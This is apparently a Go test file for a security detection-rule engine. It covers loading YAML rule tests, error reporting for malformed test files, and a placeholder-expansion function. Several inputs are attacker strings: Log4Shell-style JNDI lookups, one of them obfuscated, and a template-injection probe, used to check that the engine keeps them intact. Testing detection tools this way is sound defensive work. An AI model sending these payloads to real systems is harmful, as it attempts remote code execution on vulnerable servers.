package rules

import (
	"errors"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/weirdev/weir/event"
)

// someTests are two tests of the rule a, and one of a rule that is not there.
const someTests = `tests:
  - rule: a
    name: it fires
    events: [{at: 0s, every: 1s, repeat: 5, set: {account: ann, auth: failure, status: 401, object: "o{n}"}}]
    expect: [{entity: ann, weight: 50}]
  - rule: a
    name: it does not
    events: [{at: 0s, set: {account: ann}}]
    expect: []
  - rule: elsewhere
    name: it fires
    events: [{at: 0s, set: {device: d1}}]
    expect: [{entity: d1, weight: 50}]
`

func testsOf(t testing.TB, text string) ([]Case, error) {
	t.Helper()
	set, err := loadText(t, map[string]string{"a.yaml": small("a")})
	if err != nil {
		t.Fatal(err)
	}
	return LoadTests(fstest.MapFS{"t.yaml": {Data: []byte(text)}}, set)
}

func TestTestsMayStandApartFromTheirRules(t *testing.T) {
	cases, err := testsOf(t, someTests)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range cases {
		got = append(got, c.Rule+": "+c.Test.Name)
		if c.File != "t.yaml" || c.Test.Line < 2 || len(c.Test.Events) != 1 {
			t.Errorf("%+v of %+v", c, c.Test)
		}
	}
	if strings.Join(got, ", ") != "a: it fires, a: it does not, elsewhere: it fires" {
		t.Errorf("got %q", got)
	}
}

func TestFilesOfTestsThatAreWrong(t *testing.T) {
	for _, c := range []struct{ name, from, to, want string }{
		{"a key that is not known", "rule: a", "rules: a", `there is no key "rules" here`},
		{"an entity that no event is about", "{entity: ann,", "{entity: bob,", `no event of this test is about the account "bob"`},
		{"one name twice", "it does not", "it fires", "the first is in t.yaml, line 2"},
		{"a rule's file", "tests:\n", "rules:\n", "holds rules and no tests"},
		{"nothing", someTests, "", "holds no tests"},
	} {
		text := strings.Replace(someTests, c.from, c.to, 1)
		var problems *Problems
		if _, err := testsOf(t, text); !errors.As(err, &problems) || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "in the tests") {
			t.Errorf("%s: %v, want something with %q", c.name, err, c.want)
		}
	}
	_, err := loadText(t, map[string]string{"a.yaml": small("a"), "t.yaml": someTests})
	if err == nil || !strings.Contains(err.Error(), "t.yaml: holds tests and no rules") {
		t.Errorf("among rules: %v", err)
	}
}

func fuzzTests(t *testing.T, data []byte) {
	t.Helper()
	cases, err := testsOf(t, string(data))
	var problems *Problems
	if err != nil && !errors.As(err, &problems) {
		t.Fatal(err)
	}
	for _, c := range cases {
		c.Test.Expand()
	}
}

func TestTextsOfTests(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"without brackets", "ann", "ann"},
		{"the number", "user-{n}", "user-12"},
		{"its rest", "user-{n%7}-{n%5}", "user-5-2"},
		{"a look-up that an attacker writes", "/?x=${jndi:ldap://h/a}", "/?x=${jndi:ldap://h/a}"},
		{"one within another, numbered", "${${lower:j}ndi:ldap://h/{n}}", "${${lower:j}ndi:ldap://h/12}"},
		{"a template that an attacker writes", "{{7*7}}", "{{7*7}}"},
		{"a route", "/users/{id}/orders/{order}", "/users/{id}/orders/{order}"},
		{"JSON", `{"a":{"b":[{}]}}`, `{"a":{"b":[{}]}}`},
		{"brackets that are not closed", "{{{ {n", "{{{ {n"},
		{"brackets that were not opened", "n} }", "n} }"},
		{"the number within brackets", "{{n}}", "{12}"},
		{"what is meant as it stands", "{{}n}", "{n}"},
		{"and the rest", "/users/{{}n%7}?{{}", "/users/{n%7}?{"},
	} {
		if got, err := numbered(c.text, 12); got != c.want || err != nil {
			t.Errorf("%s: %q becomes %q, %v, want %q", c.name, c.text, got, err, c.want)
		}
	}
	for _, text := range []string{"{n%0}", "{n%x}", "{n%}", "{n%-1}", "{n%+1}", "{n%99999999999999999999}"} {
		if got, err := numbered(text, 12); err == nil {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

// A test may hold what an attacker writes, in every way that YAML writes texts.
func TestATestMayHoldBrackets(t *testing.T) {
	const want = "/?x=${jndi:ldap://h/a}"
	for name, set := range map[string]string{
		"flow, double quotes": `{account: ann, path: "/?x=${jndi:ldap://h/a}"}`,
		"flow, single quotes": `{account: ann, path: '/?x=${jndi:ldap://h/a}'}`,
		"block, plain":        "\n              account: ann\n              path: /?x=${jndi:ldap://h/a}",
	} {
		text := small("a") + "    tests:\n      - name: an exploit\n        events:\n          - at: 0s\n            set: " + set + "\n        expect: []\n"
		rules, err := loadText(t, map[string]string{"a.yaml": text})
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if got := rules.Rules[0].Tests[0].Expand()[0].Event.Text(event.Path); got != want {
			t.Errorf("%s: path %q", name, got)
		}
	}
}
